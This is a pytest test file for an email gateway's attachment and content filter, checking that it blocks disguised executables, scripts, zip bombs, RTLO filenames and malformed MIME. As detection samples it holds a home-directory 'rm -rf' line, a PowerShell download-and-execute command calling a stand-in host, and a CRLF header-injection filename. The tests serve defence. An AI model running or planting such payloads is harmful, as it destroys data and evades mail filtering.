"""Content Filtering (mailgate.checks.content): attachment names (bidi tricks, double
extensions), true types whatever the name says, sizes, zip archives within limits (zip bombs,
deep nesting, member floods, encryption), header and body patterns, and never CLEAN for a
message that could not be analysed.
"""

from __future__ import annotations

import asyncio
import base64
import email.policy
import io
import struct
import zipfile
from email.message import EmailMessage
from typing import Any

import pytest

from mailgate.checks.content import HEADER, ContentCheck, _is_zip, true_types
from mailgate.config.protection import ContentSettings, PhishingSettings, Protection
from mailgate.pipeline.api import CheckResult, RealClient, ScanContext, Verdict
from mailgate.types import ClientInfo, Envelope, Recipient

PE = b"MZ" + b"\x90" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 100
MACHO = b"\xcf\xfa\xed\xfe" + b"\0" * 100
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 100


def context(raw: bytes, **content: Any) -> ScanContext:
    client = ClientInfo("192.0.2.10", helo="mx.example")
    envelope = Envelope(
        "Q1", "a@example.com", [Recipient("b@example.net", "example.net")], client, 0.0
    )
    protection = Protection(
        content=ContentSettings(enabled=True, **content), phishing=PhishingSettings()
    )
    return ScanContext(envelope, raw, client, RealClient("192.0.2.10", "mx.example"),
                       "gw.example", protection)  # fmt: skip


def scan(raw: bytes, **content: Any) -> CheckResult:
    return asyncio.run(ContentCheck().scan(context(raw, **content)))


def message(*attachments: tuple[bytes, str, str], text: str = "Hello.\n") -> bytes:
    msg = EmailMessage()
    msg["From"] = "a@example.com"
    msg["To"] = "b@example.net"
    msg["Subject"] = "Grüße"
    msg.set_content(text)
    for data, name, ctype in attachments:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes(policy=email.policy.SMTP)


def raw_attachment(disposition: bytes, data: bytes = b"x") -> bytes:
    """A message whose attachment has a hand-written Content-Disposition."""
    return (
        b"From: a@example.com\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
        b"--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
        b"Content-Disposition: " + disposition + b"\r\n\r\n"
        + base64.b64encode(data) + b"\r\n--b--\r\n"
    )  # fmt: skip


def make_zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def patch_sizes(data: bytes, size: int) -> bytes:
    """A zip whose every member claims `size` bytes uncompressed (in both headers)."""
    out = bytearray(data)
    at = out.find(b"PK\x03\x04")
    while at >= 0:
        struct.pack_into("<I", out, at + 22, size)
        at = out.find(b"PK\x03\x04", at + 4)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", out, at + 24, size)
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def encrypt_flags(data: bytes) -> bytes:
    """A zip whose members say they are encrypted (general purpose flag bit 0)."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at >= 0:
            out[at + offset] |= 1
            at = out.find(signature, at + 4)
    return bytes(out)


def attachment_zip(members: list[tuple[str, bytes]], **kwargs: Any) -> bytes:
    return message((make_zip(members, **kwargs), "files.zip", "application/zip"))


# -- verdicts and header ---------------------------------------------------------------------


def test_clean_message() -> None:
    result = scan(message((b"%PDF-1.7 text", "report.pdf", "application/pdf")))
    assert result.verdict is Verdict.CLEAN
    assert result.module == "content"
    assert result.headers == ((HEADER, "clean"),)
    assert result.parts == ()


def test_blocked_attachment_names_its_part() -> None:
    result = scan(message((b"data", "setup.EXE", "application/octet-stream")))
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert result.parts == (2,)
    assert result.detail == "setup.EXE matches *.exe"
    assert result.headers == ((HEADER, "blocked_attachment (setup.EXE matches *.exe)"),)


# -- names -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "detail"),
    [
        ("report.pdf.exe", "report.pdf.exe matches *.exe (double extension .pdf.exe)"),
        ("evil.exe.", "evil.exe. matches *.exe"),  # Windows drops trailing dots
        ("evil.exe  ", "evil.exe   matches *.exe"),
        ("folder/evil.scr", "folder/evil.scr matches *.scr"),
        ("evil.exe\0.pdf", "evil.exe\\u0000.pdf matches *.exe"),  # some clients cut at NUL
    ],
)
def test_blocked_names(name: str, detail: str) -> None:
    result = scan(message((b"data", name, "application/octet-stream")))
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert detail in result.detail


def test_rtlo_name_matches_the_real_extension_and_is_blocked_by_itself() -> None:
    # "invoice\u202efdp.exe" shows as "invoiceexe.pdf".
    result = scan(message((b"data", "invoice\u202efdp.exe", "application/pdf")))
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert "invoice\\u202efdp.exe has bidirectional control characters" in result.detail
    assert "invoice\\u202efdp.exe matches *.exe" in result.detail
    assert "\u202e" not in result.detail
    # Any bidi control is enough, whatever the name.
    result = scan(message((b"data", "photo\u2067gpj.txt", "text/plain")), blocked_names=["*.zzz"])
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert "bidirectional" in result.detail


def test_every_name_of_a_part_is_checked() -> None:
    raw = raw_attachment(b"attachment; filename=\"fine.pdf\"; filename*=utf-8''evil.exe")
    assert scan(raw).verdict is Verdict.BLOCKED_ATTACHMENT
    raw = raw_attachment(b"attachment; filename*=utf-8''fine.pdf; filename=\"evil.exe\"")
    assert scan(raw).verdict is Verdict.BLOCKED_ATTACHMENT


def test_name_from_content_type_and_rfc2047() -> None:
    raw = (
        b"From: a@example.com\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b'--b\r\nContent-Type: application/octet-stream; name="=?utf-8?q?r=C3=A9sum=C3=A9.scr?="'
        b"\r\n\r\nx\r\n--b--\r\n"
    )
    result = scan(raw)
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert "résumé.scr matches *.scr" in result.detail


def test_regular_expression_masks() -> None:
    raw = message((b"data", "Payroll-2024.xlsm", "application/octet-stream"))
    assert scan(raw, blocked_names=[r"re:\.xls[mb]$"]).verdict is Verdict.BLOCKED_ATTACHMENT
    assert scan(raw, blocked_names=["*.xls"]).verdict is Verdict.CLEAN


def test_header_injection_through_a_name_stays_out_of_the_header() -> None:
    raw = raw_attachment(b"attachment; filename*=utf-8''a.exe%0D%0AX-Injected%3A%20yes")
    result = scan(raw, blocked_names=["a.exe*"])
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    for text in (result.detail, *(v for _, v in result.headers)):
        assert "\r" not in text
        assert "\n" not in text
    assert "a.exe\\u000d\\u000aX-Injected: yes" in result.detail
    (name, value), *_ = result.headers
    assert name == HEADER
    assert value.isascii()


# -- true types ------------------------------------------------------------------------------


def test_exe_named_pdf_is_executable() -> None:
    result = scan(message((PE, "invoice.pdf", "application/pdf")))
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert result.detail == "invoice.pdf is executable (declared application/pdf)"
    assert result.parts == (2,)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (PE, "executable"),
        (b"MZ" + b"\0" * 100, "executable"),  # DOS program
        (ELF, "executable"),
        (MACHO, "executable"),
        (b"#!/bin/sh\nrm -rf ~\n", "script"),
        (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"', "script"),
        (b"var x = new ActiveXObject('MSXML2.XMLHTTP');", "script"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x')".encode("utf-16"), "script"),
        (b'<html><HTA:APPLICATION ID="x"><script>', "script"),
        (OLE2, "office_macro"),
        (
            make_zip([("[Content_Types].xml", b"<x/>"), ("word/vbaProject.bin", b"vba")]),
            "office_macro",
        ),
        (make_zip([("a.txt", b"hi")]), "archive"),
        (b"Rar!\x1a\x07\x01\x00" + b"\0" * 50, "archive"),
        (b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "archive"),
        (b"\x1f\x8b\x08\x00" + b"\0" * 50, "archive"),
        (b"\0" * 0x8001 + b"CD001" + b"\0" * 100, "archive"),  # ISO 9660
        (b"junk" * 50 + b"%PDF-1.4", "pdf"),
        (PNG, "image"),
        (b"GIF89a" + b"\0" * 50, "image"),
    ],
)
def test_true_type_blocked_whatever_the_name(data: bytes, kind: str) -> None:
    raw = message((data, "harmless.txt", "text/plain"))
    result = scan(raw, blocked_types=[kind], archive_members=10)
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT, result.detail
    assert f"harmless.txt is {kind}" in result.detail
    others = [k for k in ("executable", "script", "office_macro", "archive", "pdf", "image")
              if k != kind]  # fmt: skip
    assert scan(raw, blocked_types=others).verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "data",
    [
        b"MZ is the start of this text file, with no binary in it at all, just words.",
        b"Plain notes about WScript and PowerShell, nothing to run.",
        b"BM is a bitmap signature, but this is text",
    ],
)
def test_text_attachments_are_not_mistaken(data: bytes) -> None:
    raw = message((data, "notes.txt", "text/plain"))
    assert scan(raw, blocked_types=["executable", "script"]).verdict is Verdict.CLEAN


def test_body_text_is_not_type_checked() -> None:
    raw = message(text="MZ" + "\0" * 100)
    assert scan(raw).verdict is Verdict.CLEAN


def test_true_types_of_a_polyglot() -> None:
    assert true_types(PE + b"%PDF-1.4") >= {"executable", "pdf"}
    assert true_types(b"") == set()


# -- sizes -----------------------------------------------------------------------------------


def test_attachment_size() -> None:
    raw = message((b"x" * 1000, "big.bin", "application/octet-stream"))
    result = scan(raw, max_attachment_size=999)
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert result.detail == "big.bin is 1000 bytes, more than 999"
    assert scan(raw, max_attachment_size=1000).verdict is Verdict.CLEAN


def test_message_size_blocks_with_the_attachments() -> None:
    raw = message((b"x" * 1000, "a.bin", "application/octet-stream"), (b"y", "b.txt", "text/plain"))
    result = scan(raw, max_message_size=len(raw) - 1)
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert f"the message is {len(raw)} bytes, more than {len(raw) - 1}" in result.detail
    assert result.parts == (2, 3)
    assert scan(raw, max_message_size=len(raw)).verdict is Verdict.CLEAN


# -- archives --------------------------------------------------------------------------------


def test_zip_members_by_name_and_by_content() -> None:
    result = scan(attachment_zip([("docs/readme.txt", b"hi"), ("run.exe", b"x"), ("a.dat", PE)]))
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert "files.zip holds run.exe matches *.exe" in result.detail
    assert "files.zip/a.dat is executable" in result.detail
    assert result.parts == (2,)


def test_zip_member_with_rtlo_name() -> None:
    result = scan(attachment_zip([("invoice\u202efdp.exe", b"x")]))
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert "bidirectional" in result.detail


def test_nested_zips_within_the_depth_are_opened() -> None:
    inner = make_zip([("tool.bin", PE)])
    middle = make_zip([("inner.zip", inner)])
    result = scan(attachment_zip([("middle.zip", middle)]), archive_depth=3)
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert "files.zip/middle.zip/inner.zip/tool.bin is executable" in result.detail


@pytest.mark.timeout(60)
def test_nested_zips_deeper_than_the_limit_are_an_error() -> None:
    data = make_zip([("harmless.txt", b"hi")])
    for level in range(6):
        data = make_zip([(f"level{level}.zip", data)])
    result = scan(message((data, "nested.zip", "application/zip")), archive_depth=3)
    assert result.verdict is Verdict.ERROR
    assert "archives nested deeper than 3 levels" in result.detail


@pytest.mark.timeout(60)
def test_zip_bomb_declaring_huge_sizes() -> None:
    # 3 x 50 MB of zeros in about 150 KB: stopped by the declared sizes, nothing inflated.
    bomb = make_zip([(f"f{i}", b"\0" * 50_000_000) for i in range(3)])
    result = scan(message((bomb, "bomb.zip", "application/zip")))
    assert result.verdict is Verdict.ERROR
    assert "declare 150000000 bytes uncompressed, more than 100000000" in result.detail


@pytest.mark.timeout(60)
@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_STORED])
def test_zip_bomb_lying_about_its_sizes(method: int) -> None:
    # Declares 1,000 bytes, expands to 20 MB: stopped after the first 64 KiB step.
    liar = patch_sizes(make_zip([("f", b"\0" * 20_000_000)], method), 1000)
    result = scan(message((liar, "liar.zip", "application/zip")))
    assert result.verdict is Verdict.ERROR
    assert "liar.zip/f: larger than it declares" in result.detail


@pytest.mark.timeout(60)
def test_zip_expanding_beyond_the_budget() -> None:
    data = make_zip([("a", b"\0" * 600_000), ("b", b"\0" * 600_000)])
    result = scan(message((data, "a.zip", "application/zip")), archive_expansion=1_000_000)
    assert result.verdict is Verdict.ERROR
    assert "declare 1200000 bytes" in result.detail


def test_expansion_budget_is_per_message() -> None:
    one = make_zip([("a", b"\0" * 600_000)])
    raw = message((one, "one.zip", "application/zip"), (one, "two.zip", "application/zip"))
    assert scan(raw, archive_expansion=1_000_000).verdict is Verdict.ERROR
    assert scan(raw, archive_expansion=1_200_000).verdict is Verdict.CLEAN


@pytest.mark.timeout(120)
def test_hundred_thousand_tiny_members() -> None:
    flood = make_zip([(str(i), b"") for i in range(100_000)], zipfile.ZIP_STORED)
    result = scan(message((flood, "flood.zip", "application/zip")))
    assert result.verdict is Verdict.ERROR
    assert "flood.zip: archive with more than 1000 members" in result.detail


@pytest.mark.parametrize("blocked", [["archive"], ["executable"]])
def test_encrypted_zip(blocked: list[str]) -> None:
    data = encrypt_flags(make_zip([("secret.bin", PE)], zipfile.ZIP_STORED))
    result = scan(message((data, "locked.zip", "application/zip")), blocked_types=blocked)
    text = "locked.zip is an encrypted archive (1 members not checked)"
    assert text in result.detail
    if "archive" in blocked:
        assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    else:
        assert result.verdict is Verdict.CLEAN  # noted: its contents cannot be read


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (
            make_zip([("a.txt", bytes(range(256)) * 40)], zipfile.ZIP_STORED)[:200],
            "no central directory",
        ),
        (b"PK\x03\x04" + b"\0" * 100, "no central directory"),
        (make_zip([("a.txt", b"x")], zipfile.ZIP_LZMA), "compression method 14 not supported"),
        (
            make_zip([("a.txt", b"hello")], zipfile.ZIP_STORED).replace(b"hello", b"jello"),
            "size or CRC does not match",
        ),
    ],
)
def test_corrupt_or_unsupported_zip_is_an_error(data: bytes, reason: str) -> None:
    result = scan(message((data, "broken.zip", "application/zip")))
    assert result.verdict is Verdict.ERROR
    assert reason in result.detail


def test_zip_behind_prepended_bytes_is_opened() -> None:
    data = b"JUNK" * 100 + make_zip([("tool.bin", PE)])
    result = scan(message((data, "photo.jpg", "image/jpeg")))
    assert result.verdict is Verdict.BLOCKED_ATTACHMENT
    assert "photo.jpg/tool.bin is executable" in result.detail


def test_office_document_is_not_an_archive() -> None:
    docx = make_zip(
        [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>"),
         ("word/media/image1.png", PNG)]
    )  # fmt: skip
    raw = message((docx, "letter.docx", "application/octet-stream"))
    assert scan(raw, blocked_types=["archive", "image", "office_macro"]).verdict is Verdict.CLEAN
    assert scan(raw, blocked_types=["archive"], archive_depth=0).verdict is Verdict.CLEAN


def test_archives_are_not_opened_at_depth_zero() -> None:
    raw = attachment_zip([("tool.bin", PE)])
    assert scan(raw, archive_depth=0).verdict is Verdict.CLEAN
    assert scan(raw, archive_depth=0, blocked_types=["archive"]).verdict is (
        Verdict.BLOCKED_ATTACHMENT
    )


def test_an_error_wins_over_a_blocked_attachment() -> None:
    bomb = patch_sizes(make_zip([("f", b"\0" * 1_000_000)]), 10)
    raw = message((PE, "tool.exe", "application/octet-stream"), (bomb, "b.zip", "application/zip"))
    result = scan(raw)
    assert result.verdict is Verdict.ERROR
    assert "larger than it declares" in result.detail
    assert "tool.exe matches *.exe" in result.detail


# -- patterns --------------------------------------------------------------------------------


def test_header_pattern_on_decoded_values() -> None:
    result = scan(message(), header_patterns=["^Subject: Grüße$"])
    assert result.verdict is Verdict.CONTENT_MATCH
    assert result.detail == "header pattern ^Subject: Grüße$ matched Subject"
    assert scan(message(), header_patterns=["^X-None:"]).verdict is Verdict.CLEAN


def test_body_pattern_on_decoded_text() -> None:
    raw = message(text="Your account números are\nsuspended\n" + "x" * 100)  # base64 on the wire
    result = scan(raw, body_patterns=[r"números are\s+suspended"])
    assert result.verdict is Verdict.CONTENT_MATCH
    assert result.parts == (0,)


def test_blocked_attachment_wins_over_a_pattern() -> None:
    raw = message((b"x", "a.exe", "application/octet-stream"))
    assert scan(raw, body_patterns=["Hello"]).verdict is Verdict.BLOCKED_ATTACHMENT


# -- messages that cannot be analysed --------------------------------------------------------


def deep(levels: int) -> bytes:
    head = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i)
        for i in range(levels)
    )
    return b"Subject: deep\r\n" + head + b"Content-Type: text/plain\r\n\r\nhi\r\n"


HOSTILE = {
    "deep": deep(1000),
    "parts": b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
    + b"--x\r\nContent-Type: text/plain\r\n\r\nhi\r\n" * 10_000,
    "no-boundary": b"Content-Type: multipart/mixed\r\n\r\n--x\r\n\r\nMZ\r\n--x--\r\n",
    "lost-boundary": b"Content-Type: multipart/mixed; boundary=y\r\n\r\n--x\r\n\r\nMZ\r\n",
    "reused-boundary": b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
    b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nMZ\r\n--b--\r\n--b--\r\n",
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_too_complex_is_an_error_never_clean(name: str) -> None:
    result = scan(HOSTILE[name])
    assert result.verdict is Verdict.ERROR
    assert result.detail.startswith("the message could not be analysed: ")
    assert result.headers[0][1].startswith("error (")


def test_scan_never_raises(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(self: ContentCheck, ctx: ScanContext) -> CheckResult:
        raise RuntimeError("boom")

    monkeypatch.setattr(ContentCheck, "inspect", broken)
    result = scan(message())
    assert result.verdict is Verdict.ERROR
    assert result.detail == "unexpected RuntimeError: boom"


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (_zip_bytes(), True),
        (b"MZ" + bytes(5000) + _zip_bytes(), True),  # a self-extractor: bytes before the zip
        (b"x" * 70000 + _zip_bytes(), True),  # the end record within the last 64 KiB
        (b"Dear customer,\r\n" * 5000, False),  # text: no 0x06 byte, no end record
        (b"text \x06 with the byte but no record" * 100, False),
        (b"PK\x05\x06", True),  # an empty archive is its end record
        (b"", False),
    ],
)
def test_a_zip_is_found_by_its_end_record_and_text_is_not(data: bytes, expected: bool) -> None:
    assert _is_zip(data) is expected
